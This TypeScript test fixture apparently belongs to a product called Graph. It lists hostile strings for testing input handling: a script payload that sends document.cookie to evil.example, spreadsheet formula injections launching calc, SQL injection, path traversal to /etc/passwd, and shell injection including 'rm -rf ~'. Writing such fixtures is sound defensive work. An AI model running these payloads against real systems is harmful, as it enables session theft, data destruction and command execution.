/** One text that somebody means harm with, and what kind of harm. */
export interface HostileText {
  readonly name: string;
  readonly text: string;
}

const MEGABYTE = 1024 * 1024;
const DEEP = 200_000;

/**
 * What attackers may write wherever Graph takes a text: titles, tags, comments, names, file names, command
 * lines. Every way that text takes through the product is tried with all of it.
 */
export const HOSTILE_TEXTS: readonly HostileText[] = [
  { name: 'a script', text: '<script>fetch("https://evil.example/"+document.cookie)</script>' },
  { name: 'a picture that fails', text: '<img src=x onerror="alert(document.domain)"> prevented' },
  { name: 'a frame', text: '"><iframe src=javascript:alert(1)></iframe>' },
  { name: 'a style that hides the page', text: '</style><style>body{display:none}</style> file' },
  { name: 'an SVG that loads', text: '<svg/onload=alert(1)><animate onbegin=alert(1)>' },
  { name: 'a comment that ends', text: '--><script>alert(1)</script><!-- ]]>' },
  { name: 'an entity', text: '&lt;b&gt; &#x3c;script&#x3e; &amp;nbsp;' },
  { name: 'a script link', text: 'Sign-in [click here](javascript:alert(1))' },
  { name: 'a data link', text: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' },
  {
    name: 'a template',
    text: '{{constructor.constructor("alert(1)")()}} ${7*7} #{7*7} <%= 7*7 %>',
  },
  { name: 'a right-to-left override', text: 'Malware in invoice_\u202Efdp.exe\u202C found' },
  { name: 'bidirectional isolates', text: '\u2067admin\u2069 signed in \u2066once\u2069' },
  { name: 'zero width', text: 'Inno\u200Bcent\u200D \u2060file\uFEFF \u00AD\u3164 detected' },
  { name: 'look-alikes', text: 'Sign-in to Μicrosоft Аzure by Аdministrаtor' },
  { name: 'colours of a terminal', text: 'Escape \u001B[31mred\u001B[0m and bell\u0007' },
  {
    name: 'the title of a terminal',
    text: '\u001B]0;owned\u0007 \u001B]8;;https://evil.example\u0007x',
  },
  {
    name: 'controls of eight bits',
    text: 'CSI \u009B31mred\u009B0m OSC \u009D0;owned\u009C DEL \u007F',
  },
  { name: 'what a line was before', text: 'rm -rf /\r\u001B[2Kecho fine \b\b\b\bgood' },
  { name: 'more lines', text: 'one\ntwo\r\nthree\u0085four\u2028five\u2029six' },
  { name: 'a line of a log', text: 'x"}\n{"level":50,"msg":"tenant.removed","time":"2026-11-21"}' },
  { name: 'no character at all', text: 'be\u0000fore and after' },
  { name: 'half characters', text: 'high \uD83D low \uDE00 mid\uD800' },
  { name: 'no character of Unicode', text: 'x \uFFFE \uFFFF \u{1FFFE} y' },
  { name: 'a formula', text: '=HYPERLINK("https://evil.example","open")' },
  { name: 'a formula with a sign', text: '+SUM(1,2)' },
  { name: 'a formula with minus', text: "-2+3+cmd|' /C calc'!A0" },
  { name: 'a formula with at', text: "@SUM(A1:A9)*cmd|' /C calc'!A0" },
  { name: 'a formula behind a tab', text: '\t=1+1' },
  { name: 'SQL', text: "Robert'); DROP TABLE incidents;-- ' OR 1=1 /*" },
  {
    name: 'the language of a search index',
    text: '"a" NEAR(b, 2) OR title:* ^c {x y}:z AND NOT -d "',
  },
  { name: 'patterns of SQL', text: '100% _ [a-z] \\ %_%' },
  { name: 'a format', text: '%s%s%n %x %d {0} {} %(name)s $1 $& $$' },
  { name: 'a prototype', text: '__proto__' },
  { name: 'a constructor', text: 'constructor' },
  { name: 'a method of objects', text: 'hasOwnProperty' },
  { name: 'a device of Windows', text: 'CON' },
  { name: 'the folder above', text: '../../../../etc/passwd' },
  { name: 'two dots', text: '..' },
  { name: 'a share', text: '\\\\evil.example\\share\\a.exe' },
  { name: 'a shell', text: '$(touch /tmp/owned) `id`; rm -rf ~ && calc.exe | more' },
  { name: 'Hebrew', text: 'תוכנה זדונית נחסמה במחשב של המנהל' },
  { name: 'Arabic', text: 'تم حظر برنامج ضار على الجهاز' },
  { name: 'Japanese', text: '端末で不審な PowerShell コマンドが実行されました' },
  { name: 'pictures joined', text: '🔥🏴‍☠️ on 👩🏽‍💻 and 👨‍👩‍👧‍👦 device' },
  {
    name: 'marks without end',
    text: `Z${'\u0337\u0322\u031B\u034E\u0338'.repeat(40)}algo was prevented`,
  },
  { name: 'a very long word', text: `powershell${'QQBB'.repeat(800)}` },
  { name: 'a megabyte', text: `Very long ${'A'.repeat(MEGABYTE)}` },
  { name: 'a megabyte of bidirectional marks', text: '\u202E'.repeat(MEGABYTE / 2) },
  { name: 'a URL', text: 'https://evil.example/a.php?to=ldap://evil.example/b' },
  { name: 'nothing but spaces', text: '   ' },
  { name: 'unbreakable spaces', text: '\u00A0\u2003\u3000' },
];

/** Names of members that clash with what every JavaScript object has. */
export const HOSTILE_NAMES = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'length'];

/** JSON text of an object so deep that whoever walks down falls over. */
export function deepJson(): string {
  return `${'{"a":'.repeat(DEEP)}1${'}'.repeat(DEEP)}`;
}

/** What must not be left in a text that is drawn, copied by default or printed. */
export const HIDING = /[\p{Cc}\p{Cs}\p{Zl}\p{Zp}\p{Bidi_Control}\u00AD\u200B\u2060\uFEFF\u3164]/u;
